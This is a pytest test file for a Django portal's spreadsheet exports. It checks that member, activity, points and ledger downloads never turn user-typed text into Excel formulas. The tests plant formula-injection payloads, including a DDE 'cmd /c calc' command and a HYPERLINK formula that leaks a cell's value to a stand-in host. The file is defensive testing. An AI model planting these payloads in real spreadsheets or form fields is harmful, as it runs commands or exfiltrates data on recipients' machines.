"""Formula injection: no .xlsx the portal writes turns a user's text into a formula.

Text that starts with =, +, -, @, a tab or a carriage return is written as quote-prefixed
text (data type "s"); numbers, dates and times keep their types. Every export is tested
with the payloads of issue 9, planted in every field a user can type that reaches it.
"""

import datetime
import re
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from activities import services as activity_services
from activities.models import ActivityType
from activities.services import AttendanceEntry
from branches.models import Member, Organisation

pytestmark = pytest.mark.django_db

CALC = "=cmd|'/c calc'!A1"
HYPERLINK = '=HYPERLINK("http://x?leak="&A1,"点我")'
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(A1)"
TAB = "\tTAB"
PAYLOADS = {CALC, HYPERLINK, PLUS, MINUS, AT}
NOW = datetime.datetime(2026, 3, 13, 18, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=8)))

# Every download the portal offers: (URL name, persona). A test below fails when a new
# .xlsx route appears that is not listed here.
EXPORTS = [
    ("branches:member_export", "committee"),
    ("branches:member_export", "secretary_a"),
    ("branches:member_import_template", "committee"),
    ("activities:export", "committee"),
    ("activities:export", "member_a"),
    ("activities:import_template", "committee"),
    ("points:committee_export", "committee"),
    ("activities:compliance_export", "committee"),
    ("activities:results_export", "committee"),
    ("dashboards:committee_export", "committee"),
    ("dashboards:annual_xlsx", "committee"),
]
# Downloads of one object, tested with it below.
OBJECT_EXPORTS = {"ledgers:list_export"}


@pytest.fixture(autouse=True)
def frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.fixture
def planted(court):
    """The payloads in member names, departments and titles, group and branch names, activities."""
    Member.objects.filter(pk=court.member_a.pk).update(
        name=CALC, department=HYPERLINK, post_title=PLUS, birth_date=datetime.date(1990, 5, 4)
    )
    Member.objects.filter(pk=court.secretary_a.pk).update(department=MINUS, post_title=AT)
    Member.objects.filter(pk=court.member_b.pk).update(name=TAB)
    Organisation.objects.filter(pk=court.group_a2.pk).update(name=AT)
    Organisation.objects.filter(pk=court.branch_b.pk).update(name=HYPERLINK)
    Organisation.objects.filter(pk=court.committee.pk).update(name=PLUS)
    types = {t.code: t for t in ActivityType.objects.all()}
    activity_services.activity_record(
        by=court.secretary_a.user,
        organisation=court.branch_a,
        activity_type=types["study_day"],
        attendance=[
            AttendanceEntry(court.secretary_a),
            AttendanceEntry(Member.objects.get(pk=court.member_a.pk), "on_leave", MINUS),
        ],
        topic=CALC,
        start=datetime.datetime(2026, 3, 6, 14, 30, tzinfo=NOW.tzinfo),
        end=datetime.datetime(2026, 3, 6, 16, 30, tzinfo=NOW.tzinfo),
        location=PLUS,
        lead=court.secretary_a,
        minutes=HYPERLINK,
    )
    partner = activity_services.partner_save(by=None, name=AT + "社区", kind="community")
    activity_services.activity_record(
        by=court.secretary_a.user,
        organisation=court.branch_a,
        activity_type=types["volunteer_service"],
        attendance=[],
        topic=PLUS,
        start=datetime.datetime(2026, 3, 9, 9, 0, tzinfo=NOW.tzinfo),
        people_served=12,
        partner_organisations=[partner],
    )
    court.branch_b.refresh_from_db()
    return court


def cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize(("name", "persona"), EXPORTS)
def test_no_export_writes_a_users_text_as_a_formula(as_persona, planted, name, persona):
    response = as_persona(persona).get(reverse(name), {"year": 2026})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]

    found = list(cells(response.content))
    formulas = [(c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in found if isinstance(c.value, str)}
    planted_texts = PAYLOADS | {TAB}
    assert any(p in text for text in texts for p in planted_texts), "the planted text is there"
    for cell in found:
        if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate


def test_members_export_keeps_text_text_and_dates_dates(as_persona, planted):
    content = as_persona("committee").get(reverse("branches:member_export")).content
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    rows = {row[header.index("工号")].value: row for row in sheet.iter_rows(min_row=2)}
    mine = rows["91002"]
    assert mine[header.index("姓名")].value == CALC
    assert mine[header.index("部门")].value == HYPERLINK
    assert mine[header.index("职务")].value == PLUS
    birth = mine[header.index("出生日期")]
    assert birth.is_date and birth.value.date() == datetime.date(1990, 5, 4)
    assert rows["91001"][header.index("部门")].value == MINUS
    assert rows["91001"][header.index("所在党小组")].value == "民一庭第一党小组"
    assert mine[header.index("所在党小组")].value == AT


def test_activity_export_keeps_dates_and_times_and_the_text(as_persona, planted):
    content = as_persona("member_a").get(reverse("activities:export")).content
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    rows = [
        {title: row[index] for index, title in enumerate(header)}
        for row in sheet.iter_rows(min_row=2)
    ]
    (by,) = [row for row in rows if row["活动类型"].value == "理论学习日"]
    (service,) = [row for row in rows if row["活动类型"].value == "志愿服务"]
    partner = service["共建单位"]
    assert (partner.value, partner.data_type, partner.quotePrefix) == (AT + "社区", "s", True)
    assert service["服务群众人数"].data_type == "n"
    assert (by["主题"].value, by["纪要"].value, by["地点"].value) == (CALC, HYPERLINK, PLUS)
    assert by["日期"].is_date and by["日期"].value.date() == datetime.date(2026, 3, 6)
    assert by["开始时间"].is_date and by["开始时间"].value == datetime.time(14, 30)
    assert f"{CALC}：{MINUS}" in by["请假人员"].value


def test_points_and_compliance_numbers_stay_numbers(as_persona, planted):
    content = as_persona("committee").get(reverse("points:committee_export")).content
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    total = header.index("合计") if "合计" in header else len(header) - 1
    rows = list(sheet.iter_rows(min_row=2))
    assert rows and all(row[total].data_type == "n" for row in rows)
    assert {row[0].value for row in rows} >= {CALC, TAB}

    content = as_persona("committee").get(reverse("activities:compliance_export")).content
    summary = load_workbook(BytesIO(content)).worksheets[0]
    lines = list(summary.iter_rows(min_row=2))
    assert HYPERLINK in {line[0].value for line in lines}
    assert all(line[-1].data_type == "n" for line in lines)


def test_every_xlsx_route_is_in_the_list_above():
    def walk(patterns, namespace=None):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                yield from walk(pattern.url_patterns, pattern.namespace or namespace)
            elif pattern.name:
                yield f"{namespace}:{pattern.name}" if namespace else pattern.name

    downloads = {
        name
        for name in walk(get_resolver().url_patterns)
        if name.endswith(("export", "_template", "_xlsx")) and not name.startswith("admin")
    }
    assert downloads == {name for name, _persona in EXPORTS} | OBJECT_EXPORTS


def test_the_ledger_export_writes_task_titles_as_text(as_persona, planted):
    from ledgers import services as ledger_services

    branch_list = ledger_services.list_publish(
        responsibility_list=ledger_services.list_create(year=2026, organisation=planted.branch_a),
        by=None,
    )
    for payload in (CALC, HYPERLINK, PLUS, MINUS, AT):
        ledger_services.task_create(
            responsibility_list=branch_list,
            title=payload,
            category="special",
            period_kind="annual",
        )
    response = as_persona("secretary_a").get(reverse("ledgers:list_export", args=[branch_list.pk]))
    assert "no-store" in response["Cache-Control"]
    found = list(cells(response.content))
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert {c.value for c in found} >= PAYLOADS
    dates = [c for c in found if c.is_date]
    assert dates, "due dates stay dates"


def test_only_the_shared_helper_creates_workbooks():
    """Every .xlsx is written through branches/xlsx.py, so none can bypass the neutralising."""
    offenders = []
    for path in Path(settings.BASE_DIR).rglob("*.py"):
        relative = path.relative_to(settings.BASE_DIR).as_posix()
        if relative.startswith((".venv/", "tests/", "var/")) or relative == "branches/xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(
            r"\bWorkbook\(|WriteOnlyCell|openpyxl\.cell|from openpyxl import .*Workbook", source
        ):
            offenders.append(relative)
    assert offenders == []
